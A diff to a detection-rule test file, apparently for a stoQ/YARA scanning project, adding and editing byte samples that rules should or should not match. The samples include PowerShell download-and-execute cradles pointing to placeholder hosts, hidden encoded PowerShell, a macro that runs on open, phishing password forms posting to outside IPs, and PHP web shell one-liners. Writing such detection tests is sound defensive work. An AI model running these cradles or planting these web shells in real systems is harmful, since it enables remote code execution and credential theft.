@@ -15,6 +15,7 @@ from handlers.local.samples import eicar, zipped
 from plugins._rules.rulesets import SHIPPED, compile_sources, read_sources
 from plugins._rules.yara import YaraOptions, matches
 from stoq_core.testing import payload
+from tests.rules import lure_samples
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 LNK = b"\x4c\0\0\0\x01\x14\x02\0"
@@ -47,6 +48,7 @@ def xor(content: bytes, key: int) -> bytes:
 
 
 SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
+    **lure_samples.SAMPLES,
     "eicar_test_file": ([eicar(), eicar() + b"\r\n"], [b"see: " + eicar(), eicar() + bytes(200)]),
     "packed_with_upx": ([pe([b"UPX0"], b"UPX!"), b"\x7fELF" + bytes(90) + b"UPX!" + bytes(36)], [pe([b".text"]), b"UPX!"]),
     "pe_within_other_bytes": (
@@ -77,6 +79,18 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [b"GIF89a" + bytes(40) + b"%PDF-1.7\n1 0 obj<</Length 3>>stream", b"\n%PDF-1.4 1 0 obj [ stream"],
         [b"%PDF-1.7\n1 0 obj<<>>stream", bytes(1030) + b"%PDF-1.7\n1 0 obj<<>>stream", b"a %PDF-1.7 file has objects and streams"],
     ),
+    "calendar_or_contact": (
+        [b"junk\r\nBEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:QUJD\r\n", b"BEGIN:VCARD\nPHOTO;ENCODING=b:QUJD\n"],
+        [b"BEGIN:VCALENDAR\r\nSUMMARY:x\r\n", b"ENCODING=BASE64"],
+    ),
+    "outlook_message": (
+        [OLE + bytes(600) + "__substg1.0_".encode("utf-16-le")],
+        [OLE + bytes(600) + b"__substg1.0_", "__substg1.0_".encode("utf-16-le")],
+    ),
+    "binhex_in_a_text": (
+        [b"(This file must be converted with BinHex 4.0)\r\n:$&4&@&4\r\n"],
+        [b"(This file must be converted with BinHex 4.0)", b"\n:$&4&@&4\n"],
+    ),
     "mail_by_its_headers": (
         [b"\r\n\r\nReceived: from a\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhi"],
         [b"\nMIME-Version: 1.0\nalone\n", b"title: a rule\ndate: 2026/01/01\nCommandLine: x\n", b"MIME-Version: 1.0 Content-Type: text/plain From: a@b.example"],
@@ -105,7 +119,6 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [b"\x7fELF" + bytes(60) + b"stratum+tcp://pool xmrig randomx"],
         [b"\x7fELF" + bytes(60) + b"randomx xmrig", b"stratum+tcp:// xmrig randomx"],
     ),
-    "executable_hidden_in_document_name": ([stored("invoice.pdf.exe"), stored("a.docx    .scr")], [stored("setup.exe"), stored("a.pdf.zip")]),
     "ole_macro_runs_on_open": (
         [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b'Sub AutoOpen() CreateObject("WScript.Shell").Run'],
         [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b"Sub Format()", b"AutoOpen WScript.Shell"],
@@ -135,8 +148,8 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [b"%PDF-1.4 <</S /Launch /F (chapter2.pdf)>>", b"/Launch /F (cmd.exe)"],
     ),
     "powershell_download_and_run": (
-        [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", b"iwr http://x/a -o a.exe; Start-Process a.exe; powershell -w hidden"],
-        [b"Invoke-WebRequest https://a.example/data.json -OutFile data.json", b"(New-Object Net.WebClient).Proxy"],
+        [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", b"iwr http://x/a -o a.exe; Start-Process a.exe", b"irm http://x/a | iex", b"IEX (iwr http://x/a).Content"],
+        [b"Invoke-WebRequest https://a.example/data.json -OutFile data.json", b"(New-Object Net.WebClient).Proxy", b"# Install\n```\nirm https://a.example | iex\n```\n"],
     ),
     "powershell_encoded_command": (
         [b"powershell.exe -nop -w hidden -enc " + B64, b"powershell -e " + B64],
@@ -166,8 +179,8 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
          b"<html><script>atob(x)" + b" " * 9000 + b"new Blob([d]);URL.createObjectURL(b);a.download='x';a.click();f='" + B64 + b"'</script>"],
     ),
     "html_password_form_to_elsewhere": (
-        [b'<form action="http://203.0.113.7/x"><input name=p type="password">', b'<title>Office 365 sign in</title><form action="next.php"><input type=password>'],
-        [b'<title>My blog</title><form action="/login"><input type="password">', b"<title>PayPal news</title>"],
+        [b'<form action="http://203.0.113.7/x"><input name=p type="password">', b'<form method=post action="https://198.51.100.2/a"><input type=password>'],
+        [b'<title>My blog</title><form action="/login"><input type="password">', b'<form action="http://192.168.1.1/x"><input type="password">'],
     ),
     "php_web_shell": (
         [b"<?php @eval($_POST['x']);", b"<?php system($_GET[c]); ?>", b"<?=`$_GET[0]`?>"],
